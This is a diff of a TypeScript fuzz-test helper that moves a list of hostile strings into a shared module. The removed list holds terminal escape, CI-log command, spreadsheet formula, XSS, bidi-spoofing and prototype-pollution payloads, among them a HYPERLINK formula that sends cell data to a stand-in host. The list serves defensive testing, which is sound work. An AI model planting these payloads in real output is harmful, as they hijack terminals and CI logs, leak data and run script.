@@ -1,64 +1,10 @@
 /** Files damaged in the ways in which files are damaged, and in some in which only an attacker would. */
 import { gzipSync } from 'node:zlib';
+import { HOSTILE } from '../cli/hostile.ts';
 import type { Random } from './random.ts';
 
 /** No file that is made is larger, in bytes. */
 const LARGEST = 200_000;
-
-/** Text that acts where it is not made harmless. */
-export const HOSTILE = [
-  '\x1b[2J\x1b[H',
-  '\x1b]0;owned\x07',
-  '\x1b]52;c;aGk=\x07',
-  '\x1bP+q544e\x1b\\',
-  '\x9b2J',
-  '\x00',
-  '\x07\x08',
-  '\x7f',
-  '\x85',
-  'a\rOK',
-  '\u202egnp.exe',
-  '\u2066x\u2069',
-  '\u200b\ufeff',
-  '\u2028\u2029',
-  '\ud800',
-  '👩\u200d💻',
-  '::error file=a,line=1::owned',
-  '\n::stop-commands::x',
-  '  ::add-mask::x',
-  '##vso[task.setvariable variable=x]y',
-  "##teamcity[buildStatus status='FAILURE']",
-  '##[error]x',
-  'section_start:1:x[collapsed=true]\r\x1b[0K',
-  '=1+1',
-  '+1+1',
-  '-2+3',
-  '@SUM(1)',
-  '\t=1+1',
-  '\r=1+1',
-  ' =1+1',
-  '\u00a0=1+1',
-  '\uff1d1+1',
-  '\uff0b1',
-  '\uff0d1',
-  '\uff20A1',
-  'safe\n=1+1',
-  '=HYPERLINK("http://x.example/?"&A1,"ok")',
-  '| a | b |',
-  '<img src=x onerror=alert(1)>',
-  '[x](javascript:alert(1))',
-  '![x](http://x.example/t.png)',
-  '@everyone #1',
-  '```\n<!-- x',
-  '__proto__',
-  'constructor',
-  'toString',
-  'hasOwnProperty',
-  'valueOf',
-  '0',
-  'length',
-  '',
-] as const;
 
 const PIECES = [
   ',', ';', '\t', '|', '"', '""', "'", '\n', '\r\n', '\r', '\0', '\ufeff', ' ', '\\', '{', '}', '[', ']', ':', '#', '&a', '*a', '<<',
